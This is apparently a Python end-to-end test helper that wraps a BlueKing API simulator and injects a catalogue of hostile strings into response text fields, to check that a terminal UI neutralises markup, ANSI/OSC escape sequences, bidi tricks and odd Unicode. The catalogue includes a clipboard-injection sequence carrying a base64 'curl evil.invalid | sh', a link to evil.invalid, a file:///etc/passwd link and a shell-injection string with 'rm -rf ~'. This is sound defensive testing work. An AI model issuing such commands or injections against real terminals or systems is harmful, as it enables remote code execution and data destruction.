"""Hostile server text for the end-to-end tests: a catalogue of strings, and an ASGI middleware
that puts them into every text field the simulator answers with.

The simulator itself is not changed: `HostileServer` wraps its ASGI app, parses each JSON answer
from a BlueKing path and replaces the values of the text keys the adapters read (names,
messages, tags, IPs, …) with catalogue strings, leaving ids, states, times and numbers alone so
the adapters still parse. In "error" mode every BlueKing answer becomes an error whose message
(or body) is a catalogue string, so error texts meet the same strings.
"""

from __future__ import annotations

import base64
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, MutableMapping
from typing import Any

import orjson

from bkwatch.sim import SimConfig, Simulator

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
ASGIApp = Callable[[Scope, Receive, Send], Awaitable[None]]

ZALGO = "".join(
    ch + "\u0335\u0321\u0322\u0347\u0300\u0301\u0302\u0303\u0316\u0317\u0318\u0319" for ch in "Zalgo"
)
CLIP_PAYLOAD = base64.b64encode(b"curl evil.invalid | sh\n").decode()

# (name, text). Markup strings are also checked to appear literally on screen (MARKUP below);
# escape strings carry a marker word right after the sequence, so a sequence that reached the
# terminal would show up verbatim in front of its marker (ESCAPES below).
HOSTILE: list[tuple[str, str]] = [
    ("rich-markup", "[bold red]x[/]"),
    ("rich-close", "[/]"),
    ("rich-link", "[link=file:///etc/passwd]y[/link]"),
    ("rich-click", "[@click=app.quit]z[/]"),
    ("rich-unbalanced", "[b]open [ [/i] ]["),
    ("textual-variable", "$accent [$error]v[/] $text"),
    ("csi-colour", "\x1b[31;5;7mRED-MK"),
    ("csi-clear", "\x1b[2J\x1b[3JCLEAR-MK"),
    ("csi-cursor", "\x1b[1;1H\x1b[5A\x1b[9CMOVE-MK"),
    ("csi-private", "\x1b[?1049l\x1b[?25lALT-MK"),
    ("csi-8bit", "\x9b2JC1CSI-MK"),
    ("osc-title-bel", "\x1b]0;PWNED-BEL\x07TITLE-MK"),
    ("osc-title-st", "\x1b]2;PWNED-ST\x1b\\TITLE2-MK"),
    ("osc-52", f"\x1b]52;c;{CLIP_PAYLOAD}\x07CLIP-MK"),
    ("osc-8-link", "\x1b]8;;http://evil.invalid/\x1b\\LINK-MK\x1b]8;;\x1b\\"),
    ("dcs", "\x1bP+q544e\x1b\\DCS-MK"),
    ("apc", "\x1b_Gf=100,a=T;AAAA\x1b\\APC-MK"),
    ("c0", "nul\x00bel\x07bs\x08\x08cr\rvt\x0bff\x0cso\x0eC0-MK"),
    ("del", "de\x7fl\x7fDEL-MK"),
    ("c1", "c1\x84\x85\x8d\x8e\x90\x9c\x9d\x9e\x9fC1-MK"),
    ("bidi-override", "\u202etxt.exe\u202c RLO-MK"),
    ("bidi-isolate", "\u2067\u2066isolate\u2069\u2069 RLI-MK"),
    ("arabic-hebrew", "مرحبا بالعالم שלום עולם"),
    ("zalgo", ZALGO),
    ("zero-width", "fa\u200bmi\u200cly\u200d👨\u200d👩\u200d👧\ufeff ZW-MK"),
    ("cjk-wide", "蓝鲸作业平台执行失败"),
    ("emoji", "🚀🔥✅ deploy"),
    ("line-separators", "one\u2028two\u2029three\x85LS-MK"),
    ("long-line", "long:" + "x" * 100_000),
    ("newlines", "\n" * 2000 + "after-newlines"),
    ("mixed", "[bold]\x1b[31m蓝鲸\u202e\x07[/]"),
    ("shell-bait", "10.0.0.1; rm -rf ~ $(reboot) `id`"),
]
NAMES = [name for name, _ in HOSTILE]
MARKUP = {
    "rich-markup": "[bold red]x[/]",
    "rich-close": "[/]",
    "rich-link": "[link=file:///etc/passwd]y[/link]",
    "rich-click": "[@click=app.quit]z[/]",
    "rich-unbalanced": "[b]open [ [/i] ][",
    "textual-variable": "$accent [$error]v[/] $text",
}
# Byte sequences that must never reach the terminal (each with the marker that follows it).
ESCAPES = [text.encode() for _, text in HOSTILE if "\x1b" in text or "\x9b" in text]

# The text keys each system's adapter reads and shows, by JSON key ("ex_data" maps node ids to
# messages: its values are rewritten). NodeMan 1.x and 2.x answers differ: see NODEMAN_V1_ONLY.
TEXT_KEYS: dict[str, frozenset[str]] = {
    "job": frozenset({"name", "tag", "ip"}),
    "sops": frozenset({"name", "ex_data"}),
    "bkflow": frozenset(),  # nodes carry no names; its texts are error messages
    "nodeman": frozenset(
        {"job_type", "job_type_display", "status_display", "step", "ip", "inner_ip", "err_code_desc"}
    ),
    "gsekit": frozenset(
        {
            "job_object",
            "job_action",
            "failed_reason",
            "extra_data__failed_reason",
            "html",
            "bk_process_name",
            "bk_host_innerip",
        }
    ),
}
NODEMAN_V1_ONLY = frozenset({"err_code_desc"})
NODEMAN_V2_ONLY = frozenset({"job_type_display", "status_display", "ip"})
ERROR_KEY = "message"
ERROR_BODIES = ("text/plain body", "html body")  # error-mode placements that are not JSON keys

# ESB component prefix / gateway name -> system.
_ESB_SYSTEMS = {"jobv3": "job", "sops": "sops", "nodeman": "nodeman", "gsekit": "gsekit"}
_GATEWAYS = {"bk-job": "job", "bk-sops": "sops", "bk-flow-engine": "bkflow", "bk-nodeman": "nodeman"}


def system_of(path: str) -> str | None:
    """The BlueKing system a request path belongs to; None for anything else (/_sim/ admin)."""
    parts = path.split("/")
    if path.startswith("/api/c/compapi/v2/") and len(parts) > 5:
        return _ESB_SYSTEMS.get(parts[5])
    if path.startswith("/api/") and len(parts) > 2:
        return _GATEWAYS.get(parts[2])
    return None


def hostile_sim(seed: int = 1) -> Simulator:
    """A frozen simulator whose GSEKit answers carry task rows (an older GSEKit) so that the
    per-process texts are sent too."""
    return Simulator(SimConfig(seed=seed, frozen=True, gsekit_rows_without_ids=True))


class HostileServer:
    """ASGI middleware: BlueKing answers with every text field replaced by a hostile string."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app
        self.mode = "data"  # or "error"
        self.placements: Counter[tuple[str, str]] = Counter()  # (system, key) -> values replaced
        self.met: set[tuple[str, str]] = set()  # (system, hostile name) that were sent
        self.bytes_sent = 0
        self._error_turn: Counter[str] = Counter()  # error answers sent per system
        self._error_strings: Counter[str] = Counter()  # catalogue strings used in them

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        system = system_of(scope.get("path", "")) if scope["type"] == "http" else None
        if system is None:
            await self.app(scope, receive, send)
            return
        body = bytearray()
        request = bytearray()

        async def recording_receive() -> Message:
            message = await receive()
            request.extend(message.get("body", b""))
            return message

        start: Message = {}

        async def capture(message: Message) -> None:
            if message["type"] == "http.response.start":
                start.update(message)
            elif message["type"] == "http.response.body":
                body.extend(message.get("body", b""))

        if self.mode == "error":
            status, headers, out = self._error(system)
        else:
            await self.app(scope, recording_receive, capture)
            seed = zlib.crc32(scope.get("query_string", b"") + bytes(request) + scope["path"].encode())
            status, headers, out = start["status"], list(start.get("headers", [])), bytes(body)
            out = self._rewrite(system, out, seed)
        headers = [(k, v) for k, v in headers if k.lower() != b"content-length"]
        headers.append((b"content-length", str(len(out)).encode()))
        self.bytes_sent += len(out)
        await send({"type": "http.response.start", "status": status, "headers": headers})
        await send({"type": "http.response.body", "body": out})

    # ---- data mode ------------------------------------------------------------------------
    def _rewrite(self, system: str, raw: bytes, seed: int) -> bytes:
        try:
            doc = orjson.loads(raw)
        except orjson.JSONDecodeError:
            return raw  # not JSON (an injected fault): nothing to rewrite
        if not isinstance(doc, dict):
            return raw
        turn = [seed]  # the same answer gets the same strings on every poll: stable screens
        if "data" in doc:
            doc["data"] = self._walk(system, doc["data"], TEXT_KEYS[system], turn)
        if doc.get("result") is False and isinstance(doc.get(ERROR_KEY), str):
            doc[ERROR_KEY] = self._take(system, ERROR_KEY, turn)
        return orjson.dumps(doc)

    def _take(self, system: str, key: str, turn: list[int]) -> str:
        name, text = HOSTILE[turn[0] % len(HOSTILE)]
        turn[0] += 1
        self.placements[(system, key)] += 1
        self.met.add((system, name))
        return text

    def _walk(self, system: str, value: Any, keys: frozenset[str], turn: list[int]) -> Any:
        if isinstance(value, list):
            return [self._walk(system, v, keys, turn) for v in value]
        if not isinstance(value, dict):
            return value
        out: dict[str, Any] = {}
        for key, v in value.items():
            if key in keys and isinstance(v, str):
                out[key] = self._take(system, key, turn)
            elif key in keys and isinstance(v, dict):  # ex_data: {node id: message}
                out[key] = {k: self._take(system, key, turn) for k in v}
            else:
                out[key] = self._walk(system, v, keys, turn)
        return out

    # ---- error mode -----------------------------------------------------------------------
    def _error(self, system: str) -> tuple[int, list[tuple[bytes, bytes]], bytes]:
        """Error answers in turn: an envelope with a hostile message, a plain-text 502, an HTML
        page with status 200, and a body with a lone surrogate escape (invalid for orjson)."""
        variant = self._error_turn[system] % 4
        self._error_turn[system] += 1
        turn = [self._error_strings[system]]
        json_type = [(b"content-type", b"application/json")]
        if variant == 0:
            doc = {
                "result": False,
                "code": 1234567,
                ERROR_KEY: self._take(system, ERROR_KEY, turn),
                "data": None,
            }
            self._error_strings[system] = turn[0]
            return 200, json_type, orjson.dumps(doc)
        if variant == 1:
            text = self._take(system, ERROR_BODIES[0], turn).encode()
            self._error_strings[system] = turn[0]
            return 502, [(b"content-type", b"text/plain; charset=utf-8")], text
        if variant == 2:
            text = self._take(system, ERROR_BODIES[1], turn)
            self._error_strings[system] = turn[0]
            page = f"<html><body><h1>Error</h1><p>{text}</p></body></html>"
            return 200, [(b"content-type", b"text/html")], page.encode()
        body = b'{"result": true, "data": {"name": "\\ud800 lone surrogate"}, "message": ""}'
        return 200, json_type, body
